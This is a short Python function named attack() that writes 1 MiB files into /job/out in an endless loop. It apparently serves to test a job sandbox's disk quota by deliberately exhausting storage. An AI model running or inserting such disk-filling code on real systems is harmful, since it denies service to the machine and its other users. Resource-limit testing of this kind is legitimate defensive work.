def attack():
    chunk = b"o" * (1 << 20)
    i = 0
    while True:
        with open("/job/out/fill%d.bin" % i, "wb") as f:
            f.write(chunk)
        i += 1
